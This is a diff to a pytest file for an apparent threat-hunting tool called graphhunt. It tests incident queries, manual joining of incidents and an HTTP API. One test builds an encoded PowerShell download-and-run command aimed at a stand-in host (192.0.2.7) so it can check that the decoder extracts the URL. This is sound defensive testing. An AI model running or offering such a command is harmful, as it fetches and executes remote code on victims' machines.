@@ -8,10 +8,13 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from starlette.testclient import TestClient
 
 import graphhunt as gh
+from graphhunt.api.app import create_app
 from graphhunt.lab.generator import generate_demo, load_truth
 from graphhunt.store.embedded import stop_engine
+from graphhunt.web import Pages
 
 from .test_commands import data, run
 
@@ -88,6 +91,59 @@ def test_rows_and_properties(loaded: tuple[Path, list[str]]) -> None:
         assert hunt.query(asked).rows[0][0] >= len(machines) - 1
         asked = "MATCH (p:Process) WHERE 'encoded_command' IN p.incident_leads RETURN count(p) AS processes"
         assert hunt.query(asked).rows[0][0] == len(machines)
+        asked = "MATCH (p:Process) WHERE p.incident_decoded CONTAINS 'http' RETURN p.incident_decoded_urls AS urls"
+        commands = hunt.query(asked).rows
+        assert len(commands) == len(machines)
+        assert all(urls[0].startswith("http://") for (urls,) in commands)
+        asked = "MATCH (:Process)-[r:CONNECTED]->(a:IP) WHERE r.incident_rank = 1 RETURN DISTINCT a.id AS address"
+        assert [[address] for address in rows[0].outside or []] == hunt.query(asked).rows
+
+
+def test_what_was_joined_by_hand_is_one_until_it_is_undone(loaded: tuple[Path, list[str]]) -> None:
+    folder, _ = loaded
+    listed = data(folder, "incidents")
+    ends = [each["id"] for each in (*listed["items"], *listed["below"])][:2]
+    made = data(folder, "links", "join", *ends, "--reason", "same night", "--author", "ann")
+    whole = data(folder, "incidents", ends[1])
+    assert data(folder, "incidents", ends[0])["id"] == whole["id"]
+    assert set(ends) <= {whole["id"], *whole["aliases"]}
+    text = " ".join(run(folder, "incidents", ends[0]).stdout.split())
+    assert f"Joined by hand: ann: same night; undo with: graphhunt links undo {made['id']}" in text
+    assert "same night" in run(folder, "links", "list").stdout
+    assert data(folder, "links", "undo", made["id"])["holds"] is False
+    assert data(folder, "incidents") == listed
+    assert run(folder, "links", "undo", made["id"]).exit_code == 2
+    assert run(folder, "links", "cut", "nosuch").exit_code == 2
+
+
+def test_over_http(loaded: tuple[Path, list[str]], tmp_path: Path) -> None:
+    folder, machines = loaded
+    with gh.open(folder) as hunt:
+        app = create_app(hunt, token=None, api_tokens=["t"], pages=Pages(tmp_path))
+        headers = {"Authorization": "Bearer t"}
+        client = TestClient(app, base_url="http://127.0.0.1:8765/api/v1", headers=headers)
+        listed = client.get("/incidents", params={"budget": 3}).json()
+        best = listed["items"][0]
+        assert best["machines"] == machines
+        told = client.get(f"/incidents/{best['id']}").json()
+        assert [step["evidence"]["total"] > 0 for step in told["steps"]] == [True] * len(told["steps"])
+        assert client.get("/incidents/nosuch").status_code == 404
+        other = (listed["items"] + listed["below"])[1]["id"]
+        wanted = {"verdict": "join", "other": other, "reason": "same night"}
+        made = client.post(f"/incidents/{best['id']}/links", json=wanted)
+        assert made.status_code == 201
+        assert client.get("/incident-links").json()["items"][-1]["reason"] == "same night"
+        assert client.get(f"/incidents/{best['id']}").json() != told
+        assert client.delete(f"/incident-links/{made.json()['id']}").json()["holds"] is False
+        assert client.get(f"/incidents/{best['id']}").json() == told
+        assert client.delete(f"/incident-links/{made.json()['id']}").status_code == 404
+        assert [each["address"] for each in client.get("/networks").json()["outside"]] == best["outside"]
+        token = base64.b64encode("IEX (iwr http://192.0.2.7/a)".encode("utf-16-le")).decode()
+        clear = client.post("/decode", json={"text": f"powershell -enc {token}"}).json()
+        assert (clear["urls"], clear["reason"]) == (["http://192.0.2.7/a"], None)
+        assert client.post("/decode", json={"text": "dir"}).json()["reason"]
+        app.state.accounts.close()
+        app.state.casebook.close()
 
 
 def test_networks(loaded: tuple[Path, list[str]]) -> None:
